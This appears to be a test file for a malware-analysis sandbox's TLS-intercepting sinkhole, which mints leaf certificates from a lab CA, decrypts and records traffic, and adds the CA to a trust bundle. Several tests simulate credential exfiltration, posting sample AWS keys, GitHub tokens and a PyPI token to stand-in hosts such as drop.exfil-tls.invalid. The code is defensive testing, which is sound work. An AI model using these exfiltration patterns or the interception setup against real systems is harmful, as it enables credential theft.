"""TLS interception of the sinkhole, on loopback with real sockets, real TLS clients and the real
`openssl` command that mints leaf certificates (as inside the sandbox images), signed by a CA made
by `sandbox/tls_ca.py` exactly as a scan makes it."""

import gzip
import http.client
import json
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

HARNESS = Path(__file__).resolve().parents[2] / "slopspotter_lab" / "sandbox" / "harness"
sys.path.insert(0, str(HARNESS))
import fakenet  # noqa: E402
import tlssink  # noqa: E402
import trust  # noqa: E402

from slopspotter_lab.sandbox.tls_ca import make_ca  # noqa: E402

pytestmark = pytest.mark.skipif(not any(os.access(os.path.join(d, "openssl"), os.X_OK)
                                        for d in os.environ.get("PATH", "").split(":")), reason="no openssl")


@pytest.fixture()
def sink(tmp_path):
    """A TLS-terminating sinkhole on 127.0.0.1:<port>; yields (port, records(), ca path)."""
    files = make_ca(tmp_path / "tls")
    tls = {role: str(tmp_path / "tls" / name) for role, name in files.items()}
    rec = fakenet.Recorder(str(tmp_path / "f.jsonl"))
    front = tlssink.front_context(tlssink.Minter(tls["ca_cert"], tls["ca_key"], tls["leaf_key"]))
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    threading.Thread(target=fakenet.serve_tcp, args=(srv, rec, time.time(), 4096, front), daemon=True).start()

    def records(n=1):
        for _ in range(100):
            lines = (tmp_path / "f.jsonl").read_text().splitlines() if (tmp_path / "f.jsonl").exists() else []
            if len(lines) >= n:
                return [json.loads(x) for x in lines]
            time.sleep(0.05)
        raise AssertionError(f"sinkhole recorded {len(lines)} of {n} connections")

    yield srv.getsockname()[1], records, tls["ca_cert"]
    srv.close()


def _client(ca: str | None) -> ssl.SSLContext:
    return ssl.create_default_context(cafile=ca) if ca else ssl.create_default_context()


def test_https_post_is_decrypted_with_sni_url_headers_and_body(sink):
    port, records, ca = sink
    conn = http.client.HTTPSConnection("127.0.0.1", port, context=_client(ca), timeout=10)
    # connect with the server name the malware used: SNI and the certificate name must match it
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    conn.sock = _client(ca).wrap_socket(raw, server_hostname="hooks.exfil-tls.invalid")
    assert conn.sock.selected_alpn_protocol() in (None, "http/1.1")
    cert = conn.sock.getpeercert()
    assert ("DNS", "hooks.exfil-tls.invalid") in cert["subjectAltName"]
    conn.putrequest("POST", "/c?id=42", skip_host=True)
    body = json.dumps({"k": "AKIAEXAMPLEKEY"}).encode()
    for k, v in (("Host", "hooks.exfil-tls.invalid"), ("Content-Type", "application/json"),
                 ("Content-Length", str(len(body))), ("X-Token", "ghp_sample")):
        conn.putheader(k, v)
    conn.endheaders(body)
    resp = conn.getresponse()
    assert resp.status == 200 and json.loads(resp.read()) == {}
    r = records()[0]
    assert r["tls"] is True and r["scheme"] == "https" and r["sni"] == "hooks.exfil-tls.invalid"
    assert r["method"] == "POST" and r["url"] == "https://hooks.exfil-tls.invalid/c?id=42"
    assert ["X-Token", "ghp_sample"] in r["headers"] and json.loads(r["body"]) == {"k": "AKIAEXAMPLEKEY"}
    assert r["request_bytes"] > len(body) and r["body_bytes"] == len(body)


def test_chunked_gzip_body_is_reassembled(sink):
    port, records, ca = sink
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    s = _client(ca).wrap_socket(raw, server_hostname="telemetry.exfil-tls.invalid")
    data = gzip.compress(b'{"blob": "c2VjcmV0"}')
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in (data[:10], data[10:])) + b"0\r\n\r\n"
    s.sendall(b"POST /v1 HTTP/1.1\r\nHost: telemetry.exfil-tls.invalid\r\nTransfer-Encoding: chunked\r\n"
              b"Content-Encoding: gzip\r\n\r\n" + chunks)
    assert s.recv(100).startswith(b"HTTP/1.1 200")
    s.close()
    r = records()[0]
    assert r["body"].encode("latin-1") == data and r["body_bytes"] == len(data)


def test_client_that_refuses_the_certificate_leaves_its_sni(sink):
    """A client with its own trust (here: the public roots only) fails the handshake: refused."""
    port, records, _ = sink
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    with pytest.raises(ssl.SSLError):
        _client(None).wrap_socket(raw, server_hostname="pinned.exfil-tls.invalid")
    r = records()[0]
    assert r["outcome"] == "tls_refused" and r["sni"] == "pinned.exfil-tls.invalid" and r["tls"] is True
    assert "method" not in r


def test_client_without_sni_gets_a_certificate_for_the_address(sink):
    port, records, ca = sink
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    ctx = _client(ca)
    s = ctx.wrap_socket(raw, server_hostname="127.0.0.1")  # IP literal: no SNI is sent
    assert ("IP Address", "127.0.0.1") in s.getpeercert()["subjectAltName"]
    s.sendall(b"GET /x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    s.recv(100)
    s.close()
    r = records()[0]
    assert r["sni"] is None and r["url"] == "https://127.0.0.1/x"


def test_curl_trusts_the_ca_and_is_decrypted(sink):
    port, records, ca = sink
    res = subprocess.run(["curl", "-s", "-m", "10", "--cacert", ca, "--resolve", f"drop.exfil-tls.invalid:{port}:127.0.0.1",
                          "--data-binary", "pypi-Token", f"https://drop.exfil-tls.invalid:{port}/curl"],
                         capture_output=True, timeout=30)
    if res.returncode == 127:
        pytest.skip("curl not installed")
    assert res.returncode == 0 and res.stdout == b"{}", res.stderr
    r = records()[0]
    assert r["url"] == f"https://drop.exfil-tls.invalid:{port}/curl" and r["body"] == "pypi-Token"


def test_plain_http_and_raw_tcp_stay_as_they_were(sink):
    port, records, _ = sink
    c = socket.create_connection(("127.0.0.1", port), timeout=5)
    c.sendall(b"GET /p?q=1 HTTP/1.1\r\nHost: plain.invalid\r\n\r\n")
    assert c.recv(100).endswith(b"ok")
    c.close()
    c = socket.create_connection(("127.0.0.1", port), timeout=5)
    c.sendall(b"\x00\x01raw-bytes-AKIA")
    c.close()
    rs = records(2)
    http_rec = next(r for r in rs if r.get("method"))
    raw_rec = next(r for r in rs if not r.get("method"))
    assert http_rec["url"] == "http://plain.invalid/p?q=1" and http_rec["tls"] is False
    assert raw_rec["head"] == "\x00\x01raw-bytes-AKIA" and "url" not in raw_rec


def test_ca_keys_are_private_and_the_bundle_gains_the_ca(tmp_path):
    files = make_ca(tmp_path / "tls")
    assert oct((tmp_path / "tls" / files["ca_key"]).stat().st_mode & 0o777) == "0o600"
    assert oct((tmp_path / "tls" / files["leaf_key"]).stat().st_mode & 0o777) == "0o600"
    ca_pem = (tmp_path / "tls" / files["ca_cert"]).read_text()
    root = tmp_path / "root"
    bundle = root / "etc/ssl/certs/ca-certificates.crt"
    bundle.parent.mkdir(parents=True)
    bundle.write_text("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    done = trust.install(ca_pem, root=str(root))
    assert done["in_place"] == [str(bundle)] and bundle.read_text().endswith(ca_pem)
    trust.install(ca_pem, root=str(root))  # idempotent
    assert bundle.read_text().count("BEGIN CERTIFICATE") == 2
